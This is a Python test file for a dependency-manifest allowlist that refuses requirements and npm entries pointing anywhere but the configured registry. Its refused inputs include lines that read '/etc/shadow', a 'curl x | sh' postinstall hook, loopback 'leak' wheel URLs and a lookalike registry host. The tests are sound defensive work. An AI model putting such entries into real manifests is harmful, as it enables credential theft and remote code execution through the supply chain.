"""The dependency-manifest allowlist (sless.policies.manifests): plain asserts, no I/O."""

from __future__ import annotations

import json

import pytest

from sless.policies.manifests import (
    check_dependency_manifests,
    check_package_json,
    check_package_lock,
    check_requirements,
    registry_spec,
)

REGISTRY = "https://registry.npmjs.org/"


def test_plain_requirements_pass() -> None:
    text = (
        "# pinned\nrequests==2.32.3\nPillow>=10.0,<11\nboto3 ; python_version >= '3.9'\n"
        "pydantic[email,timezone]~=2.8\nnumpy \\\n  ==2.0.1\n--prefer-binary\n"
        "urllib3==2.2.2 \\\n    --hash=sha256:0123456789abcdef \\\n    --hash=sha256:fedcba98\n"
        "zope.interface (>=6)\nsix\n\n   # indented comment\ntyping_extensions!=4.0.*\n"
        'pywin32 ; sys_platform == "win32" and (python_version < "3.12")\n'
    )
    assert check_requirements(text) == []


@pytest.mark.parametrize(
    "line",
    [
        "-r /etc/shadow",
        "-r other.txt",
        "--requirement=/etc/shadow",
        "-c /etc/passwd",
        "--constraint constraints.txt",
        "-i http://127.0.0.1:8000/simple",
        "--index-url=http://x/simple",
        "--extra-index-url http://x/simple",
        "--find-links ./wheels",
        "-f http://x/",
        "--no-index",
        "--trusted-host x",
        "-e .",
        "--editable=./pkg",
        "--no-binary :all:",
        "--only-binary=:none:",
        "six --index-url http://x/simple",
        "six --config-settings key=value",
        "leak @ file:///etc/shadow",
        "leak@http://127.0.0.1:9/leak.whl",
        "leak [x] @ https://x/leak.tar.gz",
        "http://127.0.0.1:9/leak-1.0-py3-none-any.whl",
        "git+https://x/leak.git",
        "./vendor/pkg",
        "/opt/pkg",
        "~/pkg",
        "file:pkg",
        "leak-1.0-py3-none-any.whl",
        "leak.tar.gz",
        "leak ; python_version > '3' @ http://x",
        "leak==${VERSION}",
        "leak==1.0 ; sys_platform == 'linux' --hash=md5:abc",
    ],
)
def test_anything_else_in_requirements_is_refused_with_its_line(line: str) -> None:
    violations = check_requirements(f"six\n\n{line}\n")
    assert len(violations) == 1, violations
    assert violations[0].path == "requirements.txt line 3"
    assert line[:10] in violations[0].message


def test_a_continued_option_is_refused_at_its_first_line() -> None:
    assert [v.path for v in check_requirements("six\n--index-\\\nurl http://x/simple\n")] == [
        "requirements.txt line 2"
    ]


@pytest.mark.parametrize(
    "spec",
    [
        "^1.2.3", "~1.2", "~>1.2.0", ">=1.0.0 <2.0.0", ">= 2.1.2 < 3", "1.x", "1.2.X", "*", "",
        "1.2.3 - 2.3.4", "^1.0.0 || ^2.0.0", "latest", "next", "beta-2", "v1.2.3", "=1.2.3",
        "1.2.3-beta.1", "1.2.3+build.5", "npm:string-width@^4.2.0", "npm:@scope/pkg@1.0.0",
        "npm:lodash",
    ],
)  # fmt: skip
def test_registry_specs_pass(spec: str) -> None:
    assert registry_spec(spec)


@pytest.mark.parametrize(
    "spec",
    [
        "file:../x", "link:../x", "portal:../x", "/etc/x", "./x", "../x", "~/x", ".5",
        "x.tgz", "1.0.0-a.tgz", "x.tar", "x.tar.gz", "git+https://x/y.git", "git://x/y",
        "github:u/r", "gitlab:u/r", "bitbucket:u/r", "gist:abc", "user/repo", "user/repo#main",
        "http://127.0.0.1/x.tgz", "https://x/y", "C:\\x", "npm:leak@http://x/y.tgz",
        "npm:../x@1", "workspace:*", "^1.0.0 || file:../x", "1" * 300,
    ],
)  # fmt: skip
def test_non_registry_specs_are_refused(spec: str) -> None:
    assert not registry_spec(spec)


def test_package_json_names_every_refused_entry() -> None:
    manifest = {
        "name": "fn",
        "scripts": {"postinstall": "curl x | sh"},  # never run: --ignore-scripts
        "dependencies": {"ok": "^1.0.0", "bad": "file:/etc"},
        "devDependencies": {"gh": "u/r"},
        "optionalDependencies": {"url": "http://x/y.tgz"},
        "peerDependencies": {"react": ">=17"},
        "overrides": {"ok": {"nested": "git+https://x/y"}, "other": "$ok", "bad2": "/x"},
        "workspaces": ["packages/*"],
        "bundleDependencies": ["ok"],
    }
    found = {v.path for v in check_package_json(json.dumps(manifest))}
    assert found == {
        "package.json dependencies.bad",
        "package.json devDependencies.gh",
        "package.json optionalDependencies.url",
        "package.json overrides.ok.nested",
        "package.json overrides.bad2",
        "package.json workspaces",
        "package.json bundleDependencies",
    }


def test_package_json_that_is_not_an_object_is_refused() -> None:
    assert check_package_json("[1]")
    assert check_package_json("{")
    assert check_package_json(json.dumps({"dependencies": ["x"]}))
    assert check_package_json(json.dumps({"dependencies": {"x": 1}}))


def _lock(packages: dict[str, object], **top: object) -> str:
    return json.dumps({"lockfileVersion": 3, "packages": packages, **top})


GOOD_LOCK = {
    "": {"name": "fn", "dependencies": {"glob": "^10.4.0", "@aws-sdk/client-s3": "3.600.0"}},
    "node_modules/glob": {
        "version": "10.4.5",
        "resolved": "https://registry.npmjs.org/glob/-/glob-10.4.5.tgz",
        "integrity": "sha512-x",
        "dependencies": {"jackspeak": "^3.1.2"},
        "bin": {"glob": "dist/esm/bin.mjs"},
        "engines": {"node": ">=16 || 14 >=14.17"},
        "funding": {"url": "https://github.com/sponsors/isaacs"},
    },
    "node_modules/string-width-cjs": {
        "name": "string-width",
        "version": "4.2.3",
        "resolved": "https://registry.npmjs.org/string-width/-/string-width-4.2.3.tgz",
    },
    "node_modules/@isaacs/cliui": {
        "version": "8.0.2",
        "resolved": "https://registry.npmjs.org/@isaacs/cliui/-/cliui-8.0.2.tgz",
        "dependencies": {"string-width-cjs": "npm:string-width@^4.2.0"},
    },
    "node_modules/glob/node_modules/minimatch": {
        "version": "9.0.5",
        "resolved": "https://registry.npmjs.org/minimatch/-/minimatch-9.0.5.tgz",
        "dev": True,
        "optional": True,
        "peerDependencies": {"x": "^1 || ^2"},
    },
}


def test_a_registry_lockfile_passes() -> None:
    assert check_package_lock(_lock(GOOD_LOCK), REGISTRY) == []
    legacy = {"glob": {"version": "10.4.5", "resolved": GOOD_LOCK["node_modules/glob"]["resolved"]}}  # type: ignore[index]
    assert check_package_lock(_lock(GOOD_LOCK, dependencies=legacy), REGISTRY) == []


@pytest.mark.parametrize(
    ("key", "entry"),
    [
        ("node_modules/x", {"version": "1.0.0", "resolved": "http://127.0.0.1:9/x.tgz"}),
        ("node_modules/x", {"version": "1.0.0", "resolved": "https://registry.npmjs.org.evil/x"}),
        ("node_modules/x", {"version": "1.0.0", "resolved": "https://registry.npmjs.org/../x"}),
        ("node_modules/x", {"version": "1.0.0", "resolved": "file:../x"}),
        ("node_modules/x", {"version": "1.0.0", "resolved": "git+ssh://git@github.com/u/r.git"}),
        ("node_modules/x", {"resolved": "../../etc", "link": True}),
        ("node_modules/x", {"version": "file:../x"}),
        ("node_modules/x", {"version": "1.0.0", "dependencies": {"y": "http://x/y.tgz"}}),
        ("packages/local", {"version": "1.0.0"}),
        ("node_modules/../../x", {"version": "1.0.0"}),
        ("../x", {"version": "1.0.0"}),
    ],
)
def test_lockfile_entries_off_the_registry_are_refused(key: str, entry: dict[str, object]) -> None:
    violations = check_package_lock(_lock({**GOOD_LOCK, key: entry}), REGISTRY)
    assert violations, entry
    assert all(key.split("/")[-1] in v.path for v in violations), violations


def test_legacy_lockfile_sections_are_checked_too() -> None:
    legacy = {"x": {"version": "git+https://x/y.git", "requires": {"z": "file:/etc"}}}
    paths = {v.path for v in check_package_lock(_lock(GOOD_LOCK, dependencies=legacy), REGISTRY)}
    assert paths == {
        "package-lock.json dependencies/x",
        "package-lock.json dependencies/x requires.z",
    }


def test_old_or_odd_lockfiles_are_refused() -> None:
    assert check_package_lock(json.dumps({"lockfileVersion": 1}), REGISTRY)
    assert check_package_lock(json.dumps({"lockfileVersion": 3, "packages": []}), REGISTRY)
    assert check_package_lock("nope", REGISTRY)


def test_the_configured_registry_is_the_only_one() -> None:
    mirror = "https://npm.mirror.example/repository/npm/"
    assert check_package_lock(_lock(GOOD_LOCK), mirror)
    moved = json.dumps(_lock(GOOD_LOCK)).replace("https://registry.npmjs.org/", mirror)
    assert check_package_lock(json.loads(moved), mirror) == []


def test_installer_config_and_unreadable_manifests_are_refused() -> None:
    files: dict[str, str | None] = {
        ".npmrc": "registry=http://x/",
        "pip.conf": "",
        "uv.toml": "",
        "requirements.txt": None,
        "handler.py": "ignored",
    }
    paths = {v.path for v in check_dependency_manifests(files, REGISTRY)}
    assert paths == {".npmrc", "pip.conf", "uv.toml", "requirements.txt"}
